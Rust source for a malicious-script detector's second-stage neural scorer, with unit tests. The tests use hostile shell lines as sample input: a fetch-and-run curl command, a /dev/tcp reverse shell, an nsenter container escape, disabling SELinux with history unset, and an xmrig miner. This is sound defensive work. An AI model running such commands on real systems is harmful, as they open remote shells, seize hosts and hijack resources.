//! The second opinion: what a script does is weighed beside the words it says. It is asked about what the first one finds
//! suspicious.

use base64::{Engine, prelude::BASE64_STANDARD};

use behaviour::{Behaviour, Fact, Leaning, STYLE};

/// Keys of a model's metadata.
const INPUTS: &str = "opinion.inputs";
const HIDDEN: &str = "opinion.hidden";
const WEIGHTS: &str = "opinion.weights";
const GATE: &str = "opinion.gate";
const FIRST: &str = "opinion.first";
const BIAS: &str = "opinion.bias";
const LATE: &str = "opinion.late";
const CUT: &str = "opinion.floor.cut";
const SUSPICIOUS: &str = "opinion.floor.suspicious";
const ONE: &str = "opinion.floor.one";
const MORE: &str = "opinion.floor.more";
const THREE: &str = "opinion.floor.three";
const DECISIVE: &str = "opinion.decisive";
const DECIDED: &str = "opinion.floor.decisive";
const LOOK: &str = "opinion.look";

/// An input of the network.
#[derive(Clone, Copy)]
enum Input {
    Fact(Fact),
    Style(usize),
}

/// A network with one hidden layer, and a linear path around it.
pub(super) struct Opinion {
    inputs: Vec<Input>,
    /// Rows of inputs, columns of hidden values.
    into_hidden: Vec<f32>,
    hidden_bias: Vec<f32>,
    out_of_hidden: Vec<f32>,
    linear: Vec<f32>,
    bias: f32,
    /// From which probability of the first opinion on this one is asked.
    gate: f32,
    /// What the first opinion's logit counts beside this one's, and what is added to both.
    first: f32,
    both: f32,
    /// Stands in where there was no time.
    late: f32,
    /// The least for what was not followed to its end.
    cut: f32,
    /// The least for what does something that is seldom harmless, for what does one thing that only attackers do, for what does
    /// something else besides, and for what does three things that only attackers do.
    suspicious: f32,
    one: f32,
    more: f32,
    three: f32,
    /// Things of attackers that hardly any harmless script does, and the least for what does one of them.
    decisive: Vec<Fact>,
    decided: f32,
    /// From which probability of the first opinion on a script is followed; below the gate only what does three things of attackers, or one
    /// that decides, counts as asked about.
    look: f32,
}

impl Opinion {
    /// Reads it from a model's metadata; nothing where there is none.
    pub(super) fn read(metadata: impl Fn(&str) -> Option<String>) -> Result<Option<Self>, String> {
        let Some(names) = metadata(INPUTS) else { return Ok(None) };
        let text = |key: &str| metadata(key).ok_or_else(|| format!("its metadata lacks {key}"));
        let number = |key: &str| {
            let text = text(key)?;
            let number: Option<f32> = text.trim().parse().ok().filter(|n: &f32| n.is_finite());
            number.ok_or_else(|| format!("its metadata's {key} is no number: {text:?}"))
        };
        let late = number(LATE)?;
        let floor = |key: &str, usual| if metadata(key).is_some() { number(key) } else { Ok(usual) };
        let inputs = names.split_whitespace().map(input).collect::<Result<Vec<_>, _>>()?;
        let decisive = metadata(DECISIVE).unwrap_or_default();
        let decisive =
            decisive.split_whitespace().map(|name| fact(name).ok_or_else(|| unknown(DECISIVE, name)));
        let hidden = number(HIDDEN)?;
        let hidden = if (1.0..=1024.0).contains(&hidden) {
            hidden as usize
        } else {
            return Err(format!("its metadata's {HIDDEN} is {hidden}: from 1 to 1024 are known"));
        };
        let bytes = BASE64_STANDARD.decode(text(WEIGHTS)?.trim()).map_err(|e| format!("{WEIGHTS}: {e}"))?;
        let (values, rest) = bytes.as_chunks::<4>();
        let values: Vec<f32> = values.iter().map(|bytes| f32::from_le_bytes(*bytes)).collect();
        let n = inputs.len();
        let expected = n * hidden + hidden + hidden + n + 1;
        if values.len() != expected || !rest.is_empty() || values.iter().any(|v| !v.is_finite()) {
            return Err(format!(
                "its metadata's {WEIGHTS} has {} bytes: {n} inputs and {hidden} hidden values need {expected} finite numbers of 4",
                bytes.len()
            ));
        }
        let mut values = values.into_iter();
        let mut take = |count: usize| values.by_ref().take(count).collect::<Vec<f32>>();
        Ok(Some(Self {
            inputs,
            into_hidden: take(n * hidden),
            hidden_bias: take(hidden),
            out_of_hidden: take(hidden),
            linear: take(n),
            bias: take(1)[0],
            gate: number(GATE)?,
            first: number(FIRST)?,
            both: number(BIAS)?,
            late,
            cut: floor(CUT, late)?,
            suspicious: floor(SUSPICIOUS, late.min(floor(ONE, late)?))?,
            one: floor(ONE, late)?,
            more: floor(MORE, late)?,
            three: floor(THREE, floor(MORE, late)?)?,
            decisive: decisive.collect::<Result<Vec<_>, _>>()?,
            decided: floor(DECIDED, late)?,
            look: if metadata(LOOK).is_some() { number(LOOK)?.min(number(GATE)?) } else { number(GATE)? },
        }))
    }

    /// The probability from which on it is asked.
    pub(super) fn gate(&self) -> f32 {
        self.gate
    }

    /// Is a script of this probability followed?
    pub(super) fn is_followed(&self, probability: f32) -> bool {
        probability >= self.look
    }

    /// Is it asked about a script of this probability that does that?
    pub(super) fn is_asked(&self, probability: f32, behaviour: &Behaviour) -> bool {
        probability >= self.gate
            || self.is_followed(probability) && (attacks(behaviour) >= 3 || self.decides(behaviour))
    }

    /// Does it do something that decides by itself?
    fn decides(&self, behaviour: &Behaviour) -> bool {
        self.decisive.iter().any(|fact| behaviour.has(*fact))
    }

    /// The logit of both opinions.
    pub(super) fn logit(&self, first: f32, second: f32) -> f32 {
        let both = self.first * first + second + self.both;
        let gate = crate::explain::logit(self.gate);
        // A softplus above the gate: what was asked about is never below what was not.
        let logit = gate + if both > 20.0 { both } else { both.exp().ln_1p() };
        // No script is certain: a threshold of 1 lets all pass.
        logit.min(crate::explain::logit(1.0))
    }

    /// This opinion's logit, and how much of it rests on each fact, in the order of the evidence.
    pub(super) fn weigh(&self, behaviour: &Behaviour) -> (f32, Vec<f32>) {
        let value = |input: &Input| match input {
            Input::Fact(fact) => f32::from(u8::from(behaviour.has(*fact))),
            Input::Style(n) => behaviour.style[*n],
        };
        let values: Vec<f32> = self.inputs.iter().map(value).collect();
        let hidden = self.hidden_bias.len();
        let mut sums = self.hidden_bias.clone();
        let mut linear = self.bias;
        for ((row, weight), value) in
            self.into_hidden.chunks_exact(hidden).zip(&self.linear).zip(&values).filter(|(_, v)| **v != 0.0)
        {
            linear += weight * value;
            for (sum, weight) in sums.iter_mut().zip(row) {
                *sum += weight * value;
            }
        }
        let out = |sums: &mut dyn Iterator<Item = f32>| -> f32 {
            sums.zip(&self.out_of_hidden).map(|(sum, weight)| sum.max(0.0) * weight).sum()
        };
        let whole = linear + out(&mut sums.iter().copied());
        let rests = |fact: Fact| {
            let at = self.inputs.iter().position(|input| matches!(input, Input::Fact(f) if *f == fact));
            let Some(at) = at else { return 0.0 };
            let row = &self.into_hidden[at * hidden..(at + 1) * hidden];
            let without =
                linear - self.linear[at] + out(&mut sums.iter().zip(row).map(|(sum, weight)| sum - weight));
            whole - without
        };
        let weights = behaviour.evidence.iter().map(|evidence| rests(evidence.fact)).collect();
        (whole.max(self.floor(behaviour)), weights)
    }

    /// What stands in for this opinion where there was no time to follow a script to its end.
    pub(super) fn late(&self, behaviour: &Behaviour) -> f32 {
        self.late.max(self.floor(behaviour))
    }

    /// The least that it says, whatever careful people write around what a script does: anybody can write that. And who makes a script too
    /// long to be followed must gain little by it.
    fn floor(&self, behaviour: &Behaviour) -> f32 {
        let steps = behaviour.evidence.iter().filter(|evidence| evidence.fact.is_of_attacks()).count();
        let by_steps = match (attacks(behaviour), steps) {
            (0, 0) => f32::NEG_INFINITY,
            (0, _) => self.suspicious,
            (1, 1) => self.one,
            (1 | 2, _) => self.more,
            _ => self.three,
        };
        let by_length = if behaviour.has(Fact::Cut) { self.cut } else { f32::NEG_INFINITY };
        let by_one = if self.decides(behaviour) { self.decided } else { f32::NEG_INFINITY };
        by_steps.max(by_length).max(by_one)
    }
}

/// How many things it does that only attackers do.
fn attacks(behaviour: &Behaviour) -> usize {
    let is_attack = |fact: Fact| fact.leaning() == Leaning::Attack;
    behaviour.evidence.iter().filter(|evidence| is_attack(evidence.fact)).count()
}

fn input(name: &str) -> Result<Input, String> {
    let style = || STYLE.iter().position(|style| *style == name).map(Input::Style);
    fact(name).map(Input::Fact).or_else(style).ok_or_else(|| unknown(INPUTS, name))
}

fn fact(name: &str) -> Option<Fact> {
    Fact::ALL.iter().copied().find(|fact| fact.id() == name)
}

fn unknown(key: &str, name: &str) -> String {
    format!(
        "its metadata's {key} names {name:?}, which this sensor does not know: `sensor facts --names` lists what it knows"
    )
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    use super::*;

    fn metadata(changes: &[(&str, &str)]) -> HashMap<String, String> {
        // Two inputs, one hidden value: relu(2 fact + 1 style - 1) * 3 + 0.5 fact + 0.25.
        let weights: Vec<u8> =
            [2.0f32, 1.0, -1.0, 3.0, 0.5, 0.0, 0.25].iter().flat_map(|v| v.to_le_bytes()).collect();
        let weights = BASE64_STANDARD.encode(weights);
        let usual = [
            (INPUTS, "fetch.run one-line"),
            (HIDDEN, "1"),
            (WEIGHTS, &weights),
            (GATE, "0.2"),
            (FIRST, "1.5"),
            (BIAS, "-1"),
            (LATE, "0.75"),
        ];
        usual.iter().chain(changes).map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
    }

    fn read(changes: &[(&str, &str)]) -> Result<Option<Opinion>, String> {
        let metadata = metadata(changes);
        Opinion::read(|key| metadata.get(key).cloned())
    }

    #[test]
    fn it_weighs_facts_and_says_what_rests_on_each() {
        let opinion = read(&[]).unwrap().unwrap();
        let does = Behaviour::of(b"curl -o x http://192.0.2.1/x; sh x");
        assert!(does.has(Fact::FetchRun));
        let (logit, rests) = opinion.weigh(&does);
        assert!((logit - (3.0 * 2.0 + 0.5 + 0.25)).abs() < 1e-5, "{logit}");
        let on_run = does.evidence.iter().zip(&rests).find(|(e, _)| e.fact == Fact::FetchRun).unwrap().1;
        assert!((on_run - (6.0 + 0.5)).abs() < 1e-5, "{on_run}");
        let (logit, rests) = opinion.weigh(&Behaviour::of(b"id"));
        assert!((logit - 0.25).abs() < 1e-5 && rests.iter().all(|r| *r == 0.0), "{logit} {rests:?}");
    }

    #[test]
    fn what_was_cut_looks_no_better_than_what_was_not_followed() {
        let opinion = read(&[]).unwrap().unwrap();
        let long = Behaviour::of(&b"id\n".repeat(behaviour::TEXT_MAX));
        assert!(long.has(Fact::Cut));
        // Alone it would be 0.25.
        assert!((opinion.weigh(&long).0 - 0.75).abs() < 1e-6);
    }

    #[test]
    fn care_around_an_attack_makes_it_look_no_better() {
        let opinion = read(&[]).unwrap().unwrap();
        let attack = Behaviour::of(b"nsenter -t 1 -m sh");
        assert!(attack.has(Fact::EscapeHost) && !attack.has(Fact::FetchRun));
        assert!((opinion.weigh(&attack).0 - 0.75).abs() < 1e-6);
        assert!((opinion.weigh(&Behaviour::of(b"uptime")).0 - 0.25).abs() < 1e-6);
    }

    #[test]
    fn who_does_two_things_that_only_attackers_do_has_a_floor_of_his_own() {
        let floors = [(CUT, "0.75"), (SUSPICIOUS, "0.375"), (ONE, "0.5"), (MORE, "2")];
        let opinion = read(&floors).unwrap().unwrap();
        let weighed = |text: &[u8]| opinion.weigh(&Behaviour::of(text)).0;
        assert!((weighed(b"nsenter -t 1 -m sh") - 0.5).abs() < 1e-6);
        assert!((weighed(b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1") - 2.0).abs() < 1e-6);
        assert!((weighed(b"unset HISTFILE; setenforce 0") - 0.375).abs() < 1e-6);
        assert!((weighed(b"unset HISTFILE; nsenter -t 1 -m sh") - 2.0).abs() < 1e-6);
        let more = [(MORE, "2"), (THREE, "4")];
        let opinion = read(&more).unwrap().unwrap();
        let weighed = |text: &[u8]| opinion.weigh(&Behaviour::of(text)).0;
        let two = &b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1"[..];
        assert!((weighed(two) - 2.0).abs() < 1e-6);
        assert!((weighed(&[two, b"; xmrig -o stratum+tcp://p:1"].concat()) - 4.0).abs() < 1e-6);
        let opinion = read(&floors).unwrap().unwrap();
        let weighed = |text: &[u8]| opinion.weigh(&Behaviour::of(text)).0;
        // One that was cut, too, is no better than one that was not followed.
        let long = [&b"nsenter -t 1 -m sh\n"[..], &b"id\n".repeat(behaviour::TEXT_MAX)].concat();
        assert!((weighed(&long) - 0.75).abs() < 1e-6);
        // Late or not: what was found counts.
        let late = |text: &[u8]| opinion.late(&Behaviour::of(text));
        assert!((late(b"unset HISTFILE; nsenter -t 1 -m sh") - 2.0).abs() < 1e-6);
        assert!(read(&[(MORE, "much")]).is_err());
    }

    #[test]
    fn one_thing_may_decide() {
        let opinion = read(&[(ONE, "0.5"), (DECISIVE, "escape.host"), (DECIDED, "3"), (LOOK, "0.05")])
            .unwrap()
            .unwrap();
        let (does, other) =
            (Behaviour::of(b"nsenter -t 1 -m sh"), Behaviour::of(b"bash -i >& /dev/tcp/192.0.2.1/4 0>&1"));
        assert!((opinion.weigh(&does).0 - 3.0).abs() < 1e-6 && (opinion.weigh(&other).0 - 0.5).abs() < 1e-6);
        assert!(
            opinion.is_asked(0.05, &does)
                && !opinion.is_asked(0.05, &other)
                && !opinion.is_asked(0.0499, &does)
        );
        assert!(read(&[(DECISIVE, "escape.moon")]).err().unwrap().contains("escape.moon"));
    }

    #[test]
    fn what_it_is_asked_about_never_falls_below_the_gate() {
        let opinion = read(&[]).unwrap().unwrap();
        let harmless = Behaviour::of(b"id");
        assert!(opinion.is_asked(0.2, &harmless) && !opinion.is_followed(0.1999));
        let opinion = read(&[(LOOK, "0.05")]).unwrap().unwrap();
        let one = Behaviour::of(b"nsenter -t 1 -m sh");
        let three = b"nsenter -t 1 -m sh; bash -i >& /dev/tcp/192.0.2.1/4 0>&1; xmrig -o stratum+tcp://p:1";
        let three = Behaviour::of(three);
        assert!(opinion.is_followed(0.05) && !opinion.is_followed(0.0499));
        assert!(
            opinion.is_asked(0.05, &three) && !opinion.is_asked(0.05, &one) && opinion.is_asked(0.2, &one)
        );
        let gate = crate::explain::logit(0.2);
        assert!(opinion.logit(gate, -50.0) >= gate);
        assert!(opinion.logit(2.0, 1.0) > opinion.logit(2.0, 0.0));
        let late = |text: &[u8]| opinion.late(&Behaviour::of(text));
        assert!((late(b"id") - 0.75).abs() < 1e-6);
        let most = opinion.logit(30.0, 30.0);
        assert!(most.is_finite() && 1.0 / (1.0 + (-most).exp()) < 1.0);
    }

    #[test]
    fn metadata_that_does_not_fit_is_named() {
        assert!(Opinion::read(|_| None).unwrap().is_none());
        for (key, value, named) in [
            (INPUTS, "fetch.run nonsense", "\"nonsense\""),
            (INPUTS, "fetch.run", "1 inputs"),
            (HIDDEN, "0", HIDDEN),
            (HIDDEN, "x", "no number"),
            (WEIGHTS, "AAAA", "3 bytes"),
            (WEIGHTS, "?", WEIGHTS),
            (LATE, "NaN", LATE),
        ] {
            let said = read(&[(key, value)]).err().unwrap();
            assert!(said.contains(named), "{said}");
        }
    }
}
